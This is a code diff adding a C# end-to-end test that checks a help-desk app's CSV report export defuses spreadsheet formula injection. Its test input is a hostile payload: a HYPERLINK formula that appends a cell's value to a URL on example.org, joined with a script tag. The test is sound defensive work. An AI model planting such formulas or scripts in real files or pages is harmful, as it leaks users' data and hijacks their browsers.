@@ -40,6 +40,26 @@ public sealed class BadInputJourney(RunningDesk desk) : IAsyncDisposable
         await Register(admin, Attack);
     }
 
+    [Fact]
+    public async Task What_is_exported_holds_no_formula()
+    {
+        var cancel = TestContext.Current.CancellationToken;
+        var attack = $"""=HYPERLINK("http://example.org/?"&A1,"x")<script>document.title='owned'</script> {Guid.NewGuid():N}""";
+        var requester = await desk.SignIn("en-GB", "requester");
+        var ticket = await requester.Submit(attack);
+        await requester.Act("correct", ("values.affectedSystem", attack));
+        await Expect(requester.Locator("#entries [data-kind=correction]")).ToContainTextAsync(attack);
+        var position = requester.Position();
+
+        var lead = await desk.SignIn("en-GB", "lead");
+        await desk.Api("analytics", "lead").Get($"/reports/flow?by=service,category&position={position}", cancel);
+        await lead.Until("/reports/flow?by=service&by=category", $"#flow tbody tr:has-text(\"{attack[^32..]}\")");
+        await Shows(lead, "#flow tbody", attack);
+        var file = await lead.APIRequest.GetAsync((await lead.GetAttributeAsync(".report-exports a[href$='format=csv']", "href"))!);
+        file.Headers["content-disposition"].ShouldStartWith("attachment");
+        (await file.TextAsync()).Split('\n').Single(line => line.Contains(attack[^32..], StringComparison.Ordinal)).ShouldContain("\"'=HYPERLINK(\"\"http");
+    }
+
     [Theory]
     [InlineData("en-GB", true)]
     [InlineData("zh-CN", false)]
